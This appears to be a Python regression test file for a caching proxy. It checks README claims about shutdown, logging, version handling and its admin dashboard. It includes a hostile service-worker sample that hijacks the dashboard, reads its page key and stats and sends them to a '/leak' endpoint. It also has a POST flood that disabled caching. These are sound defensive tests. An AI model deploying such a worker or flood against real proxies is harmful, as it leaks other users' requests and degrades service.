"""A documentation review of today's README changes (docs2): each test names the README's
words, what the proxy did instead, why it matters and how much (high / medium / low)."""

from __future__ import annotations

import asyncio
import signal

from aiohttp import web
from browser import chromium
from processes import clean_env, start_serve, stop
from test_review_lifecycle_regressions import _head, _origin

from cacheproxy.proxy.invalidations import KEY_FLOORS


async def test_a_head_arriving_after_a_body_at_sigterm_is_answered(origin, tmp_path):
    """README, SIGTERM: "A request whose head was still arriving at the SIGTERM is read and
    answered too (with `Connection: close`, as nginx does)". Not when its first bytes came
    in the same read as the end of the request before it that had a body (a POST with
    `Content-Length` and the next request sent behind it): the proxy counted no bytes of
    a next head then (it cannot tell where a body ended; the parser can), took the
    connection for idle at the stop and closed it without an answer, so the client could
    not tell that request from one lost (RFC 9112 §9.3.1: for a non-idempotent request it
    must not just send it again). nginx answers it. Severity: low (a client must pipeline
    behind a request with a body, and be slow with the rest of the head)."""
    up, _ = await _origin(origin, slow=0.1)
    env = clean_env(CACHEPROXY_PROXY_SHUTDOWN_TIMEOUT="3")
    proc, port = await start_serve("--upstream", up, cwd=tmp_path, env=env)
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        writer.write(b"POST /fast HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 3\r\n\r\nabc"
                     b"GET /fast HTTP/1.1\r\nHost: 127.0.0.1\r\n")
        assert (await _head(reader))[":status"] == "200"
        await asyncio.sleep(0.3)
        proc.send_signal(signal.SIGTERM)
        await asyncio.sleep(0.5)
        writer.write(b"\r\n")  # the rest of the head
        answer = await _head(reader)
        assert (answer[":status"], answer.get("connection")) == ("200", "close")
        writer.close()
    finally:
        code, err = await stop(proc)
    assert code == 0 and "Traceback" not in err


async def _post_long_urls(port: int, count: int) -> None:
    """count POSTs to distinct 8 KB targets (each answered 2xx: an invalidation, §4.4)."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    for i in range(count):
        target = f"/comment?{i:05d}" + "x" * 8000
        writer.write(f"POST {target} HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\n\r\n"
                     .encode())
        await writer.drain()
        await reader.readuntil(b"ok")
    writer.close()


async def test_posts_to_long_urls_do_not_keep_other_urls_from_being_stored(origin, proxy):
    """README: "An answer being fetched when its URL is invalidated or purged is then not
    stored"; the marks of invalidated URLs are "bounded in characters as well as in count
    (2 MiB each)". Past that bound the oldest mark went and raised a floor for every key:
    any fill sent before that mark's time was not stored, whatever its URL. A client that
    POSTs to 300 distinct 8 KB URLs (2.4 MB; each a 2xx from an origin that ignores the
    query: an invalidation) while /page is being fetched kept /page from being stored,
    though nothing invalidated it; kept up, it turns the cache off for everyone (every
    fill refused, every request a miss on the origin). Squid and nginx keep no such marks;
    Varnish's bans test the object they ban only. Severity: medium (one client, a few MB
    a second, no admin access). The evicted marks now raise a time per bucket of keys (by
    hash), so that an evicted key's own fill is still refused."""
    async def answer(request: web.Request) -> web.Response:
        if request.method == "POST":
            return web.Response(text="ok")
        await asyncio.sleep(0.5)
        return web.Response(text="page", headers={"Cache-Control": "max-age=60"})

    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", answer)
    c = await proxy(await origin(app))
    authority = f"127.0.0.1:{c.server.port}"
    # The marks are now held under the keys' hashes (proxy/invalidations.py), so 300 long
    # POSTs push none out; were they pushed out, a page sharing none of their hash buckets
    # would still be stored (one that shares one is refused as that key's own fill would
    # be: hash() is salted per process, so no client can aim at a URL's bucket).
    taken = {hash(c.app_proxy.cache_key("http", "a", f"/comment?{i:05d}" + "x" * 8000))
             % KEY_FLOORS for i in range(300)}
    pages = (f"/page{n}" for n in range(1000))
    for invalidated in (False, True):
        path = next(p for p in pages
                    if hash(c.app_proxy.cache_key("http", authority, p)) % KEY_FLOORS
                    not in taken)
        fill = asyncio.ensure_future(c.get(path))
        await asyncio.sleep(0.1)
        if invalidated:  # its own mark, then 300 others: still refused
            assert (await c.post(path)).status == 200
        await _post_long_urls(c.server.port, 300)
        assert (await fill).status == 200
        stored = await c.get(path, headers={"Cache-Control": "only-if-cached"})
        assert stored.status == (504 if invalidated else 200), path


async def test_bytes_that_are_no_utf8_read_back_from_the_text_log(origin, proxy, tmp_path):
    """README, the text log: quoted values escape `"`, `\\`, control characters as
    `\\xHH` ..., "so every line reads back exactly". A User-Agent or Referer may carry
    obs-text bytes that are no UTF-8 (RFC 9110 §5.5; the proxy reads them with
    surrogateescape, and the JSON log writes them `\\udcff`): the text format left them to
    the sink's backslashreplace, which wrote the six characters `\\udcff`, and read back
    (`cacheproxy logs`, LogRecord) they were those six characters, not the byte: a
    User-Agent `A<FF><9B>[2J` came back as `A\\udcff\\udc9b[2J`. They are now written
    `\\uDCFF` (not `\\xFF`, which reads back as the character U+00FF) and read back as
    the JSON log's. Severity: low (a log summary of odd clients shows other strings)."""
    from test_observe_regressions import origin_app, read_log

    from cacheproxy.observe.record import parse_line
    log = tmp_path / "requests.log"
    c = await proxy(await origin(origin_app()), log={"path": str(log), "format": "text"})
    reader, writer = await asyncio.open_connection("127.0.0.1", c.server.port)
    writer.write(b"GET /i HTTP/1.1\r\nHost: a\r\nConnection: close\r\n"
                 b"User-Agent: A\xff\x9b[2J \xc2\x9b\r\nReferer: http://x/\xc3\r\n\r\n")
    assert (await reader.read()).startswith(b"HTTP/1.1 200 ")
    writer.close()
    [line] = await read_log(c, log)
    record = parse_line(line)
    assert record is not None
    assert (record.user_agent, record.referer) == ("A\udcff\udc9b[2J \u009b", "http://x/\udcc3")


async def test_a_request_line_of_http_2_1_gets_505(origin, proxy):
    """README (the client plane): a request line "with a major version other than 1 and 2
    (`HTTP/3.0`, ...) **505** (`HTTP/2.0` in a request line is read as 1.1; ...)". Major
    version 2 with another minor (`HTTP/2.1`, `HTTP/2.9`) gets 505 too: only `HTTP/2.0`
    is read as 1.1 (llhttp takes it). The proxy is right (RFC 9110 §15.6.6; there is no
    HTTP/2.1) and the README's words are not: it should read "with a major version other
    than 1 (`HTTP/3.0`, `HTTP/2.1`, as nginx and Squid answer them) **505**, but for
    `HTTP/2.0`, which is read as 1.1". This test pins what the proxy does. Severity: low
    (documentation)."""
    from test_observe_regressions import origin_app
    c = await proxy(await origin(origin_app()))
    for version, status in (("HTTP/2.1", b"505"), ("HTTP/2.9", b"505"), ("HTTP/2.0", b"200"),
                            ("HTTP/3.0", b"505")):
        reader, writer = await asyncio.open_connection("127.0.0.1", c.server.port)
        writer.write(f"GET /v {version}\r\nHost: a\r\nConnection: close\r\n\r\n".encode())
        answer = await asyncio.wait_for(reader.read(), 5)
        writer.close()
        assert answer.split(b" ", 2)[1] == status, (version, answer[:40])


# A proxied site's service worker (scope "/": every page of the proxy's origin on the single
# listener): it reads the dashboard's answer through navigation preload, and the stats calls
# of a dashboard it controls (their page key, their answers); it claims open pages too.
SERVICE_WORKER = b"""
const leak = (what) => fetch('/leak?' + new URLSearchParams(what));
self.addEventListener('install', (e) => self.skipWaiting());
self.addEventListener('activate', (e) => e.waitUntil((async () => {
  await self.registration.navigationPreload.enable();
  await self.clients.claim();
})()));
self.addEventListener('fetch', (e) => {
  const url = e.request.url;
  if (url.includes('/_cacheproxy/dashboard')) {
    e.respondWith((async () => {
      const answer = (await e.preloadResponse) || await fetch(e.request);
      const html = await answer.text();
      const key = (html.match(/name="cacheproxy-page-key" content="([^"]*)"/) || [])[1] || '';
      const stats = await fetch('/_cacheproxy/stats', {headers: {'X-Cacheproxy-Page': key}});
      await leak({how: 'preload', key, status: stats.status});
      return new Response(html, {headers: {'Content-Type': 'text/html'}});
    })());
  } else if (url.includes('/_cacheproxy/stats')) {
    e.respondWith((async () => {
      const answer = await fetch(e.request);
      await leak({how: 'stats', key: e.request.headers.get('X-Cacheproxy-Page') || '',
                  status: answer.status});
      return answer;
    })());
  }
});
"""

REGISTERS = b"""<!doctype html><title>an app's page</title><script>
navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready)
  .then(() => { window.__done = 'registered'; }, (e) => { window.__done = String(e); });
</script>"""


async def test_a_proxied_sites_service_worker_cannot_read_the_stats(origin, proxy):
    """README, Admin API: `stats` "is answered to a page only when it is the dashboard
    opened by the user ...; another page of the proxy's origin cannot read the last 50 log
    lines (other clients' requests)"; "So no web page can purge your cache or read it."
    On the single listener a proxied page's script can register a service worker for the
    whole origin (127.0.0.1 and localhost are secure contexts), which stays: the dashboard
    the user then opens from the address bar is under it. The worker saw each stats call
    (its `X-Cacheproxy-Page` key, the token's `Authorization`) and its answer, and with
    navigation preload read the dashboard's own answer, key included, and called stats
    itself (200). Now the dashboard sends no key or token while a service worker controls
    it (looked at before each call: a worker claims open pages), and the proxy gives no key
    to a navigation preload. Severity: medium (the recent requests of every client, from
    one visit of the operator's browser to one proxied page)."""
    leaks: list[dict[str, str]] = []

    async def worker(request: web.Request) -> web.Response:
        return web.Response(body=SERVICE_WORKER, content_type="application/javascript")

    async def page(request: web.Request) -> web.Response:
        return web.Response(body=REGISTERS, content_type="text/html")

    async def leak(request: web.Request) -> web.Response:
        leaks.append(dict(request.query))
        return web.Response(text="ok")

    app = web.Application()
    app.router.add_get("/sw.js", worker)
    app.router.add_get("/page", page)
    app.router.add_get("/leak", leak)
    c = await proxy(await origin(app))
    async with chromium() as browser:
        context = await browser.new_context()
        opened_before = await context.new_page()  # the dashboard, open before the worker
        await opened_before.goto(str(c.make_url("/_cacheproxy/dashboard")))
        await opened_before.get_by_test_id("requests-total").wait_for(timeout=10_000)
        tab = await context.new_page()
        await tab.goto(str(c.make_url("/page")))
        await tab.wait_for_function("window.__done !== undefined", timeout=10_000)
        assert await tab.evaluate("window.__done") == "registered"
        dashboard = await context.new_page()  # opened from the address bar, under the worker
        await dashboard.goto(str(c.make_url("/_cacheproxy/dashboard")))
        await asyncio.sleep(2.5)  # (the open dashboard polls every 2 s)
        assert [x for x in leaks if x["status"] == "200" or x["key"]] == [], leaks
        await dashboard.get_by_test_id("auth-error").wait_for(timeout=5_000)
